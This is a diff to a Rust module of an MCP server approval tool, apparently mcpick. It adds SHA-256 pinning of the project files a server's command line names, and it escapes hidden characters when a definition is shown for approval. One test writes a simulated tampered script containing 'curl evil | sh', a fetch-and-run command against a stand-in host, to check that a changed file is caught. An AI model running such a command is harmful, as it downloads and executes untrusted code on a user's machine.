@@ -14,6 +14,14 @@
 //! URL, header names and values). Anything that changes is a different server and is asked
 //! about again; the server's name is not part of it. Only digests are kept, so the file holds
 //! no secret an env value or header carried, beside a masked form for `--list`.
+//!
+//! A command line is not the code it runs: after `python3 srv.py` is approved, a `git pull`
+//! can change `srv.py`. So an approval also keeps the SHA-256 of each file of the project the
+//! command line names ([`named_files`]: the command or an argument that is a file there, a
+//! Python module named with `-m`), taken when it is approved; a file that changed, appeared or
+//! went away since holds the server back again, saying which file changed. What those files
+//! load in turn (imports, `node_modules`, the packages `npx` fetches or finds in the project)
+//! is not covered: docs/security.md says so.
 
 use std::collections::BTreeMap;
 use std::path::{Path, PathBuf};
@@ -44,6 +52,43 @@ pub struct Approval {
     pub name: String,
     /// Its definition as written (placeholders kept, literal secrets masked), one line.
     pub shown: String,
+    /// The project files its command line names, as they were when it was approved: path →
+    /// SHA-256 ([`named_files`]). Approvals from before files were pinned have none.
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub files: BTreeMap<String, String>,
+}
+
+/// Whether one definition may start in a project, and if not, why.
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub enum Verdict {
+    /// Approved, and every project file its command line names is as it was then.
+    Approved,
+    /// Never approved (in this form, in this project).
+    NotApproved,
+    /// Approved, but these files it names (paths as shown) changed, appeared or went away
+    /// since: it waits for the person again.
+    FilesChanged(Vec<String>),
+}
+
+impl Verdict {
+    /// Why a held server waits, for messages (`None` when approved): the files that changed,
+    /// or that it was never approved. `name`: the server's name as shown.
+    pub fn why_held(&self, name: &str) -> Option<String> {
+        match self {
+            Verdict::Approved => None,
+            Verdict::NotApproved => Some(format!(
+                "`{name}` runs a command from this project's files that you have not approved"
+            )),
+            Verdict::FilesChanged(files) => Some(format!(
+                "`{name}` was approved, but {} it runs changed since you approved it (or was not pinned then)",
+                files
+                    .iter()
+                    .map(|f| format!("`{}`", sanitize::for_decision(f)))
+                    .collect::<Vec<_>>()
+                    .join(", ")
+            )),
+        }
+    }
 }
 
 /// The digest that identifies one server definition: what would be started, exactly.
@@ -62,16 +107,46 @@ pub fn project_key(dir: &Path) -> String {
 }
 
 impl Approvals {
-    /// True when this exact definition was approved for `project`.
+    /// True when this exact definition was approved for `project` and the project files it
+    /// names are as they were then ([`Approvals::check`]).
     pub fn is_approved(&self, project: &Path, transport: &TransportSpec) -> bool {
-        self.projects
+        self.check(project, transport) == Verdict::Approved
+    }
+
+    /// Whether this exact definition may start in `project`: approved, and every project
+    /// file its command line names has the digest it had when approved.
+    pub fn check(&self, project: &Path, transport: &TransportSpec) -> Verdict {
+        let Some(approval) = self
+            .projects
             .get(&project_key(project))
-            .is_some_and(|approved| approved.contains_key(&fingerprint(transport)))
+            .and_then(|approved| approved.get(&fingerprint(transport)))
+        else {
+            return Verdict::NotApproved;
+        };
+        let now = file_digests(project, transport);
+        let changed: Vec<String> = now
+            .iter()
+            .filter(|(path, digest)| approval.files.get(*path) != Some(digest))
+            .map(|(path, _)| path.clone())
+            .chain(
+                approval
+                    .files
+                    .keys()
+                    .filter(|path| !now.contains_key(*path))
+                    .cloned(),
+            )
+            .collect();
+        if changed.is_empty() {
+            Verdict::Approved
+        } else {
+            Verdict::FilesChanged(changed)
+        }
     }
 
     /// Remembers `transport` as approved for `project`, shown in `--list` as `shown` (the
     /// definition as written, placeholders kept: never the expanded one, which may hold
-    /// secrets); false when it already was approved.
+    /// secrets), with the digests of the project files it names now; false when it already
+    /// was approved with these files as they are.
     pub fn approve(
         &mut self,
         project: &Path,
@@ -79,6 +154,7 @@ impl Approvals {
         transport: &TransportSpec,
         shown: &str,
     ) -> bool {
+        let files = file_digests(project, transport);
         self.projects
             .entry(project_key(project))
             .or_default()
@@ -87,9 +163,10 @@ impl Approvals {
                 Approval {
                     name: name.to_string(),
                     shown: shown.to_string(),
+                    files: files.clone(),
                 },
             )
-            .is_none()
+            .is_none_or(|before| before.files != files)
     }
 
     /// Forgets every approval for `project`; how many there were.
@@ -106,6 +183,133 @@ impl Approvals {
             .flat_map(|(project, approved)| approved.values().map(move |a| (project.as_str(), a)))
     }
 }
+
+/// The files of `project` a stdio definition's command line names, as the server would find
+/// them: the command when it is a path, each argument that is a file (`srv.py`, `./srv.js`,
+/// `/abs/path/in/project/x`), and a Python module named with `-m` (`srvmod.py`,
+/// `srvmod/__main__.py`), relative to the folder it runs in (its `cwd`, else `project`).
+/// Only regular files inside the project, or inside the repository it is part of (the
+/// nearest folder up with a `.git`), count: what a repository can change. Sorted, unique.
+pub fn named_files(project: &Path, transport: &TransportSpec) -> Vec<PathBuf> {
+    let TransportSpec::Stdio {
+        command, args, cwd, ..
+    } = transport
+    else {
+        return Vec::new();
+    };
+    let runs_in = match cwd {
+        Some(cwd) => project.join(cwd),
+        None => project.to_path_buf(),
+    };
+    let mut words: Vec<String> = Vec::new();
+    if command.contains('/') {
+        words.push(command.clone());
+    }
+    let mut module_next = false;
+    for arg in args
+        .iter()
+        .take(if runs_mcpick(command) { 0 } else { args.len() })
+    {
+        if module_next {
+            let module = arg.replace('.', "/");
+            words.push(format!("{module}.py"));
+            words.push(format!("{module}/__main__.py"));
+        }
+        module_next = arg == "-m";
+        if !arg.starts_with('-') && !arg.is_empty() && !arg.contains("://") {
+            words.push(arg.clone());
+        }
+    }
+    let roots = project_roots(project);
+    let mut files: Vec<PathBuf> = words
+        .iter()
+        .map(|w| runs_in.join(w))
+        .filter(|p| p.is_file())
+        .filter_map(|p| std::fs::canonicalize(p).ok())
+        .filter(|p| roots.iter().any(|root| p.starts_with(root)))
+        .collect();
+    files.sort();
+    files.dedup();
+    files
+}
+
+/// Whether `command` is mcpick itself (the `serve` and `wrap-serve` entries `install` and
+/// `wrap` write): its arguments name data it reads (the context set, a wrap record), which
+/// change with every mark, not code it runs, so they are not pinned. A `./mcpick` of the
+/// project is still pinned as the command.
+fn runs_mcpick(command: &str) -> bool {
+    let name = Path::new(command)
+        .file_stem()
+        .map(|n| n.to_string_lossy().into_owned());
+    name.as_deref() == Some("mcpick")
+}
+
+/// The folders whose files a repository controls, canonical: the project and the repository
+/// it is in (the nearest folder up with `.git`, when there is one).
+fn project_roots(project: &Path) -> Vec<PathBuf> {
+    let Ok(project) = std::fs::canonicalize(project) else {
+        return Vec::new();
+    };
+    let repository = project
+        .ancestors()
+        .find(|folder| folder.join(".git").exists())
+        .map(Path::to_path_buf);
+    std::iter::once(project).chain(repository).collect()
+}
+
+/// The SHA-256 of each file [`named_files`] finds (path → hex digest); a file that cannot be
+/// read gets a digest no file has, so it never matches an approval.
+pub fn file_digests(project: &Path, transport: &TransportSpec) -> BTreeMap<String, String> {
+    named_files(project, transport)
+        .into_iter()
+        .map(|path| {
+            let digest = file_sha256(&path).unwrap_or_else(|e| format!("unreadable: {e}"));
+            (path.to_string_lossy().into_owned(), digest)
+        })
+        .collect()
+}
+
+/// A file's SHA-256, read in pieces (a large script is not held in memory).
+fn file_sha256(path: &Path) -> std::io::Result<String> {
+    use std::io::Read;
+    let mut file = std::fs::File::open(path)?;
+    let mut hasher = Sha256::new();
+    let mut buffer = vec![0u8; 64 * 1024];
+    loop {
+        let n = file.read(&mut buffer)?;
+        if n == 0 {
+            break;
+        }
+        hasher.update(&buffer[..n]);
+    }
+    Ok(hasher
+        .finalize()
+        .iter()
+        .map(|b| format!("{b:02x}"))
+        .collect())
+}
+
+/// What an approval of `transport` pins beside its command line, for the person deciding:
+/// the project files it names, one line each, shown for a decision ([`NOT_COVERED`] says
+/// once what it does not cover).
+pub fn covers(project: &Path, transport: &TransportSpec) -> Vec<String> {
+    named_files(project, transport)
+        .iter()
+        .map(|f| {
+            format!(
+                "pins: {} as it is now (a change asks again)",
+                sanitize::for_decision(&f.to_string_lossy())
+            )
+        })
+        .collect()
+}
+
+/// [`NOT_COVERED`] in one line of the browser's question.
+pub const NOT_COVERED_SHORT: &str =
+    "An approval covers the command and its pinned files, not what they load.";
+
+/// What an approval does not cover, said once wherever one is asked for.
+pub const NOT_COVERED: &str = "An approval covers the command line and the project files it names, not what they load: imports, node_modules, the packages npx fetches or finds in the project.";
 
 /// The approval file of this user.
 pub type Store = super::private::Private<Approvals>;
@@ -132,16 +336,24 @@ impl Store {
 /// What a server runs, whole, one part a line: the parts written in the file as they are
 /// (literal values included: they are in the project for anyone to read), and the parts
 /// that take a value from this person's environment as written (`${TOKEN}`), so no secret of
-/// theirs is printed. Cleaned for the terminal.
+/// theirs is printed. Shown for a decision ([`sanitize::for_decision`]): a newline, an
+/// invisible character or a long run of spaces is shown as an escape, never hidden, and a
+/// last line says how to read the escapes when there are any.
 pub fn describe(selected: &super::select::Selected) -> Vec<String> {
     let shown = selected.shown.as_ref().unwrap_or(&selected.spec.transport);
+    let escapes = std::cell::Cell::new(false);
+    let show = |value: &str| {
+        let shown = sanitize::for_decision(value);
+        escapes.set(escapes.get() || sanitize::has_escapes(&shown));
+        shown
+    };
     let pick = |written: &str, expanded: &str| {
         let value = if written.contains("${") {
             written
         } else {
             expanded
         };
-        sanitize::whole_line(value)
+        show(value)
     };
     let pairs = |written: &std::collections::BTreeMap<String, String>,
                  expanded: &std::collections::BTreeMap<String, String>| {
@@ -149,7 +361,7 @@ pub fn describe(selected: &super::select::Selected) -> Vec<String> {
             .iter()
             .map(|(k, v)| {
                 let w = written.get(k).map_or(v.as_str(), String::as_str);
-                format!("{}={}", sanitize::whole_line(k), pick(w, v))
+                format!("{}={}", show(k), pick(w, v))
             })
             .collect::<Vec<_>>()
     };
@@ -188,10 +400,7 @@ pub fn describe(selected: &super::select::Selected) -> Vec<String> {
                 ));
             }
             if let Some(cwd) = cwd {
-                lines.push(format!(
-                    "in: {}",
-                    sanitize::whole_line(&cwd.display().to_string())
-                ));
+                lines.push(format!("in: {}", show(&cwd.display().to_string())));
             }
         }
         (TransportSpec::Http { url, headers } | TransportSpec::Sse { url, headers }, written) => {
@@ -211,8 +420,15 @@ pub fn describe(selected: &super::select::Selected) -> Vec<String> {
             }
         }
     }
+    if escapes.get() {
+        lines.push(ESCAPES_SHOWN.to_string());
+    }
     lines
 }
+
+/// Said under a definition shown with escapes: how to read them.
+pub const ESCAPES_SHOWN: &str =
+    "(escaped: \\n newline, \\t tab, \\u{…} hidden or control character, \\\\ backslash)";
 
 /// A word as a shell would need it to stay one word.
 fn quote(word: &str) -> String {
@@ -286,6 +502,73 @@ mod tests {
         assert_eq!(approvals.revoke(&a), 2);
         assert!(!approvals.is_approved(&a, &server));
         assert_eq!(approvals.revoke(&a), 0);
+    }
+
+    #[test]
+    fn an_approval_pins_the_project_files_the_command_line_names() {
+        let dir = tempfile::tempdir().unwrap();
+        let root = std::fs::canonicalize(dir.path()).unwrap();
+        let project = root.join("project");
+        std::fs::create_dir_all(project.join("pkg/tool")).unwrap();
+        for file in ["srv.py", "srvmod.py", "pkg/tool/__main__.py", "run.sh"] {
+            std::fs::write(project.join(file), "print(1)").unwrap();
+        }
+        std::fs::write(root.join("outside.py"), "x").unwrap();
+        let files = |t: &TransportSpec| -> Vec<String> {
+            named_files(&project, t)
+                .iter()
+                .map(|p| p.strip_prefix(&project).unwrap_or(p).display().to_string())
+                .collect()
+        };
+        assert_eq!(files(&stdio("python3", &["srv.py"], &[])), ["srv.py"]);
+        assert_eq!(
+            files(&stdio("python3", &["-m", "srvmod"], &[])),
+            ["srvmod.py"]
+        );
+        assert_eq!(
+            files(&stdio("python3", &["-m", "pkg.tool"], &[])),
+            ["pkg/tool/__main__.py"]
+        );
+        assert_eq!(files(&stdio("./run.sh", &["--x", "-v"], &[])), ["run.sh"]);
+        // A bare command is looked up on PATH, a file outside the project is not the
+        // project's, an option is not a file.
+        assert!(files(&stdio("run.sh", &["../outside.py", "--srv.py"], &[])).is_empty());
+        // mcpick's own entries name the set it reads (changed by every mark), not code.
+        std::fs::write(project.join("mcpick.context.json"), "{}").unwrap();
+        let serve = ["serve", "--set", "mcpick.context.json"];
+        assert!(files(&stdio("mcpick", &serve, &[])).is_empty());
+        assert!(files(&stdio("/usr/local/bin/mcpick", &serve, &[])).is_empty());
+        assert_eq!(
+            files(&stdio("python3", &["srv.py", "mcpick.context.json"], &[])),
+            ["mcpick.context.json", "srv.py"]
+        );
+
+        // Approved, then the file changes: held again, naming it.
+        let server = stdio("python3", &["srv.py"], &[]);
+        let mut approvals = Approvals::default();
+        assert!(approvals.approve(&project, "py", &server, "python3 srv.py"));
+        assert_eq!(approvals.check(&project, &server), Verdict::Approved);
+        std::fs::write(
+            project.join("srv.py"),
+            "import os; os.system('curl evil | sh')",
+        )
+        .unwrap();
+        let Verdict::FilesChanged(changed) = approvals.check(&project, &server) else {
+            panic!("a changed file ran on the old approval");
+        };
+        assert!(changed[0].ends_with("srv.py"), "{changed:?}");
+        assert!(!approvals.is_approved(&project, &server));
+        assert!(
+            approvals.approve(&project, "py", &server, "python3 srv.py"),
+            "again"
+        );
+        assert!(approvals.is_approved(&project, &server));
+        // Removed: held too (`python3 -m` would find another module of that name).
+        std::fs::remove_file(project.join("srv.py")).unwrap();
+        assert!(matches!(
+            approvals.check(&project, &server),
+            Verdict::FilesChanged(_)
+        ));
     }
 
     #[test]
